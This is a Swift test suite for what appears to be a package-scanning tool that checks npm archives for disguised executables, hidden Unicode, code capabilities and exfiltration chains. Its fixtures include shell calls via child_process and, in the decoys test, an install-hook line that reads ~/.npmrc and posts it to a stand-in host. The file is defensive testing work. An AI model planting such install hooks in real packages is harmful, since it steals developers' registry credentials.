import SallyportAnalysis
import SallyportModel
import SallyportTesting
import Testing

@Suite("Files")
struct FileTests {
    @Test("are listed with size, digest, content and mode")
    func records() {
        let report = Sample.report(Sample.npm(["a.txt": "hello"], binaries: ["b": [0x7F, 0x45, 0x4C, 0x46] + zeros]))
        #expect(report.kind == "npm")
        #expect(report.files.map(\.path) == ["package/package.json", "package/a.txt", "package/b"])
        #expect(report.files.map(\.content) == ["text", "text", "elf"])
        #expect(report.files.map(\.isExecutable) == [false, false, true])
        #expect(report.files[1].digest?.hex.hasPrefix("2cf24dba5fb0a30e") == true)
        #expect(report.unpackedBytes == report.files.reduce(0) { $0 + $1.size })
    }

    @Test("that are programs under another name are stated")
    func mismatch() {
        let report = Sample.report(Sample.npm([:], binaries: ["logo.png": [0x7F, 0x45, 0x4C, 0x46] + zeros]))
        #expect(report.facts(.fileExtensionMismatch).map(\.detail) == ["elf, named .png"])
        let text = Sample.report(Sample.npm(["NOTICE.txt": "x = 1"], scripts: ["install": "node NOTICE.txt"]))
        #expect(text.facts(.fileExtensionMismatch, .install).count == 1)
    }

    @Test(
        "hide something when invisible characters stand in a row or change the direction",
        arguments: [
            ("x = '\(String(repeating: "\u{E0101}", count: 8))'", 1),
            ("x = '\(String(repeating: "\u{E0101}", count: 7))'", 0),
            ("x = '\u{202E} reversed'", 1), ("x = '👨‍👩‍👧 ❤️'", 0), ("x = 'a\u{200B}b'", 0),
        ]
    )
    func hidden(source: String, count: Int) {
        let report = Sample.report(Sample.npm(["index.js": source]))
        #expect(report.facts(.fileHiddenUnicode).count == count)
    }

    @Test("reach of code follows what loads it")
    func reach() {
        let files = [
            "main.js": "require('./lib/used')", "lib/used.js": "require('child_process').exec('id')",
            "test/t.js": "require('child_process').exec('id')", "bin/x.js": "fetch('https://x.example.invalid')",
        ]
        let report = Sample.report(Sample.npm(files, extra: "\"main\": \"main\", \"bin\": {\"x\": \"./bin/x.js\"}"))
        #expect(Set(report.facts(.capabilityProcess, .load).compactMap { $0.place?.path }) == ["package/lib/used.js"])
        #expect(report.facts(.capabilityNetwork, .load).count == 1)
        #expect(report.facts(.capabilityProcess, .shipped).isEmpty)
    }

    @Test("that an import names and that are no code are no code that can't be read")
    func declarations() {
        let text = (0...AnalysisLimits.standard.referencesMax).map { "./name\($0).js x\n" }.joined()
        let files = ["index.js": "module.exports = 1;\n", "index.d.ts": text]
        let exports = "\"exports\": {\"import\": \"./index.js\", \"types\": \"./index.d.ts\"}"
        #expect(Sample.report(Sample.npm(files, extra: exports)).facts(.fileUnreadable).isEmpty)
        let command = Sample.report(Sample.npm(["run.sh": text], extra: "\"bin\": \"run.sh\""))
        #expect(!command.facts(.fileUnreadable, .load).isEmpty)
    }

    @Test("are read once when their findings are kept")
    func store() {
        let store = KeptFindings()
        let inspector = Inspector(hashing: TestHashing(), findings: store)
        let bytes = Sample.npm(["index.js": "require('child_process').exec('id')", "b.js": "eval(x)"])
        let artifact = InspectedArtifact(ecosystem: .npm, filename: "a.tgz")
        let first = inspector.inspect(bytes.span, artifact: artifact)
        #expect(store.counts == [2, 0])
        #expect(inspector.inspect(bytes.span, artifact: artifact) == first)
        #expect(store.counts == [2, 2])
    }

    @Test("with a thousand decoys keep the finding that weighs")
    func decoys() {
        let decoys = (0..<1000).map { "fetch('https://d\($0).example.invalid');" }.joined(separator: "\n")
        let real =
            "\nrequire('https').request({host: 'x.example.invalid'}).end(require('fs').readFileSync(process.env.HOME + '/.npmrc'));"
        let report = Sample.report(Sample.npm(["a.js": decoys + real], scripts: ["install": "node a.js"]))
        #expect(!report.facts(.chainExfiltration, .install).isEmpty)
        #expect(report.facts(.capabilityNetwork).count <= 4)
    }

    private let zeros = [UInt8](repeating: 0, count: 200)
}
